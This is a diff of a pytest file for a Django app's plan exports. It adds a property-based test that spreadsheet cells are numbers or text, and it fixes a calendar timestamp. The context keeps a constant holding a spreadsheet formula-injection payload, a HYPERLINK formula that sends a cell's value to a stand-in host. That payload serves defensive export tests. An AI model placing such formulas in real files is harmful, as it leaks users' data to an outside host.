@@ -11,14 +11,17 @@ import openpyxl
 import pytest
 from django.core.management import call_command
 from django.urls import reverse
+from hypothesis import HealthCheck, given, settings
 
 from calculator.form.examples import BY_SLUG, EXAMPLES
 from calculator.models import Assessment
+from calculator.profile import ProfileErrors
 from calculator.result.page import result_context
 from jobs import child
 from jobs.child import ChildError
 from jobs.models import Run
 from releases.snapshot import shipped_tables, tables_of
+from reports.calendar import calendar_bytes
 from reports.exports import runs
 from reports.exports.appointments import appointments
 from reports.exports.made import exported
@@ -29,11 +32,13 @@ from tabular.formula import Formula
 from tabular.spreadsheet import Sheet, xlsx_bytes
 from tests.calculator.profiles import profile
 from tests.calculator.test_result_access import assess
+from tests.calculator.whole_profiles import whole_profiles
 from tests.reports.formulas import evaluated
 from tests.reports.test_calendar import parsed, plain
 from tests.roadmap.plans import CREATED_ON, assessed
 
 ATTACK = '=HYPERLINK("http://127.0.0.1/?"&A1,"x")'
+SAVED_AT = datetime(2027, 2, 3, 4, 5, 6, tzinfo=UTC)
 ADDRESSES = ("plan_xlsx", "plan_csv", "plan_ics", "json")
 EVERYTHING = profile(
     currency="EUR",
@@ -130,6 +135,22 @@ def test_the_check_says_when_a_figure_is_not_the_stored_one():
     cell = rows_by_name(book["Summary"])["Do the two agree"][1]
     assert evaluated(book, "Summary", cell.coordinate) is False
     assert [row[1].value for row in workbook(source)[0].rows if row[0] == "Do the two agree"] == [False]
+
+
+@settings(max_examples=20, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@given(whole_profiles(shipped_tables()))
+def test_whatever_is_entered_every_cell_is_a_number_or_text(data):
+    """The writer refuses what is no number; the value that is worked out is the stored one."""
+    try:
+        source = made(data)
+    except ProfileErrors:
+        return
+    sheets = workbook(source)
+    assert xlsx_bytes(sheets, limited=lambda _path, payload: payload)
+    checks = [row[1].value for row in sheets[0].rows if row[0] == "Do the two agree"]
+    assert checks == [True]
+    calendar = calendar_bytes(appointments(source.plan, "id"), name="", stamp=SAVED_AT, sequence=0)
+    assert len(parsed(calendar)[1]) >= 8
 
 
 def test_another_rate_gives_another_value():
@@ -268,6 +289,7 @@ def edited(owner) -> Assessment:
         ],
     }
     SavedPlan.objects.create(assessment=assessment, changes=changes, revision=4)
+    SavedPlan.objects.update(updated_at=SAVED_AT)
     return assessment
 
 
@@ -296,8 +318,7 @@ def test_calendar_follows_the_saved_plan(owner, edited):
     response = owner.get(address(edited, "plan_ics"))
     assert response["Content-Type"] == "text/calendar; charset=utf-8"
     _calendar, events = parsed(response.content)
-    saved_at = edited.saved_plan.updated_at.astimezone(UTC)
-    assert {event["DTSTAMP"] for event in events} == {f"{saved_at:%Y%m%dT%H%M%SZ}"}
+    assert {event["DTSTAMP"] for event in events} == {"20270203T040506Z"}
     assert {event["SEQUENCE"] for event in events} == {"4"}
     own = next(event for event in events if event["UID"].startswith("action-own-1."))
     assert (own["DTSTART"], own["DTEND"]) == ("20280201", "20280401")
